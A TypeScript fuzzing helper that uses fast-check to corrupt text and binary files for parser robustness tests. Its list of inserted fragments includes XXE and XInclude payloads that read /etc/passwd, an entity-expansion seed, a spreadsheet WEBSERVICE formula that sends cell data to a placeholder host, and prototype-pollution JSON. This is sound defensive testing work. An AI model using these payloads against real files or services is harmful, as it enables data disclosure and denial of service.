import { type Arbitrary, array, constantFrom, integer, nat, oneof, string, tuple, uint8Array } from 'fast-check'
import { textesHostiles } from '../coffre/hostile.ts'

/** One way to spoil a file. A place is any whole number: it is brought back into the file. */
export type Mutation<T> = (juste: T) => T

const pousser = (octets: Buffer, ou: number, mis: Uint8Array, otes = 0): Buffer => {
  const rang = ou % (octets.length + 1)
  return Buffer.concat([octets.subarray(0, rang), mis, octets.subarray(rang + otes)])
}

/** A disk, a cable or a hand that is not sure: bits, bytes, pieces lost, doubled or moved. */
const surOctets: Arbitrary<Mutation<Buffer>> = oneof(
  tuple(nat(), nat(7)).map(([ou, bit]): Mutation<Buffer> => (octets) => {
    const copie = Buffer.from(octets)
    if (copie.length > 0) copie[ou % copie.length] = (copie[ou % copie.length] ?? 0) ^ (1 << bit)
    return copie
  }),
  tuple(nat(), uint8Array({ maxLength: 8 })).map(
    ([ou, mis]): Mutation<Buffer> =>
      (o) =>
        pousser(o, ou, mis, mis.length),
  ),
  tuple(nat(), uint8Array({ maxLength: 40 })).map(
    ([ou, mis]): Mutation<Buffer> =>
      (o) =>
        pousser(o, ou, mis),
  ),
  tuple(nat(), nat(400)).map(
    ([ou, otes]): Mutation<Buffer> =>
      (o) =>
        pousser(o, ou, Buffer.alloc(0), otes),
  ),
  tuple(nat(), nat(400), nat()).map(([de, long, vers]): Mutation<Buffer> => (o) => {
    const debut = de % (o.length + 1)
    return pousser(o, vers, o.subarray(debut, debut + long))
  }),
  nat().map(
    (ou): Mutation<Buffer> =>
      (o) =>
        o.subarray(0, ou % (o.length + 1)),
  ),
)

/** Texts that a spreadsheet, an XML reader or a form may trip on. */
const morceaux = [
  ...textesHostiles.filter((t) => t.length < 2000),
  '"',
  '""',
  ';',
  ',',
  '\t',
  '\r',
  '\n',
  '\r\n\r\n',
  'sep=,\n',
  '<',
  '>',
  '&',
  "'",
  '<!--',
  '-->',
  '<![CDATA[',
  ']]>',
  '<?xml version="1.0" encoding="utf-16"?>',
  '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
  '<!ENTITY a SYSTEM "file:///etc/passwd">',
  '&a;',
  '&#0;',
  '&#x110000;',
  '&#xD800;',
  '<f>WEBSERVICE("http://x/"&amp;A1)</f>',
  '<c r="XFD1048576"><v>1</v></c>',
  '<c r="A0" t="s"><v>-1</v></c>',
  '<c r="A1" t="s"><v>99999999</v></c>',
  '<c r="B2" t="d"><v>9999-99-99</v></c>',
  '<row r="999999999">',
  ' r="ZZZ9999999"',
  ' table:number-rows-repeated="2000000000"',
  ' table:number-columns-repeated="2000000000"',
  ' table:number-rows-repeated="-1"',
  ' office:date-value="99999-13-45"',
  ' office:value="1e999"',
  ' xmlns:xi="http://www.w3.org/2001/XInclude"',
  '<xi:include href="file:///etc/passwd"/>',
  '<a>'.repeat(3000),
  '{nom}',
  '{#nom}',
  '{/nom}',
  '{@nom}',
  '{constructor}',
  '{{',
  '}',
  '{"__proto__":{"polluee":true}}',
  '"__proto__":{"polluee":true},',
  '[[[[',
  '1e400',
  '-1',
  'null',
] as const

const pousserTexte = (texte: string, ou: number, mis: string, otes = 0): string => {
  const rang = ou % (texte.length + 1)
  return texte.slice(0, rang) + mis + texte.slice(rang + otes)
}

/** A text spoilt where it hurts: one word of it, a sign, a figure, a line. */
export const surTexte: Arbitrary<Mutation<string>> = oneof(
  {
    weight: 4,
    arbitrary: tuple(nat(), constantFrom(...morceaux)).map(
      ([ou, mis]): Mutation<string> =>
        (t) =>
          pousserTexte(t, ou, mis),
    ),
  },
  {
    weight: 3,
    arbitrary: tuple(nat(), constantFrom(...morceaux)).map(([ou, mis]): Mutation<string> => (t) => {
      // In the place of a whole word, so that what is around stays right.
      const mots = [...t.matchAll(/[\p{L}\p{N}/-]+/gu)]
      const mot = mots[ou % Math.max(1, mots.length)]
      return mot === undefined ? t : pousserTexte(t, mot.index, mis, mot[0].length)
    }),
  },
  {
    weight: 2,
    arbitrary: tuple(nat(), integer({ min: -3, max: 9_999_999_999 })).map(([ou, par]): Mutation<string> => (t) => {
      const nombres = [...t.matchAll(/\d+/gu)]
      const nombre = nombres[ou % Math.max(1, nombres.length)]
      return nombre === undefined ? t : pousserTexte(t, nombre.index, String(par), nombre[0].length)
    }),
  },
  tuple(nat(), nat(60)).map(
    ([ou, otes]): Mutation<string> =>
      (t) =>
        pousserTexte(t, ou, '', otes),
  ),
  tuple(nat(), nat(200), nat()).map(([de, long, vers]): Mutation<string> => (t) => {
    const debut = de % (t.length + 1)
    return pousserTexte(t, vers, t.slice(debut, debut + long))
  }),
  tuple(nat(), string({ unit: 'binary', maxLength: 20 })).map(
    ([ou, mis]): Mutation<string> =>
      (t) =>
        pousserTexte(t, ou, mis),
  ),
)

const encoder: readonly ((texte: string) => Buffer)[] = [
  (t) => Buffer.from(t),
  (t) => Buffer.from(`\uFEFF${t}`),
  (t) => Buffer.from(t, 'latin1'),
  (t) => Buffer.from(`\uFEFF${t}`, 'utf16le'),
  (t) => Buffer.from(t, 'utf16le'),
  (t) => Buffer.from(`\uFEFF${t}`, 'utf16le').swap16(),
  (t) => Buffer.concat([Buffer.from(t), Buffer.from([0xc3, 0x28, 0xff])]),
]

const enchainer = <T>(mutations: readonly Mutation<T>[], juste: T): T => mutations.reduce((t, m) => m(t), juste)

/** A file of plain text spoilt as text, written in any encoding, then spoilt as bytes. */
export const fichierTexteAbime = (justes: readonly Buffer[]): Arbitrary<Buffer> =>
  tuple(
    constantFrom(...justes),
    array(surTexte, { maxLength: 4 }),
    oneof({ weight: 3, arbitrary: constantFrom(encoder[0]) }, constantFrom(...encoder)),
    oneof({ weight: 2, arbitrary: constantFrom<Mutation<Buffer>[]>([]) }, array(surOctets, { maxLength: 3 })),
  ).map(([juste, textes, encode, octets]) => {
    const texte = enchainer(textes, juste.toString())
    return enchainer(octets, encode?.(texte) ?? Buffer.from(texte))
  })

/** Bytes spoilt as bytes. */
export const octetsAbimes = (justes: readonly Buffer[]): Arbitrary<Buffer> =>
  tuple(constantFrom(...justes), array(surOctets, { minLength: 1, maxLength: 4 })).map(([juste, m]) =>
    enchainer(m, juste),
  )
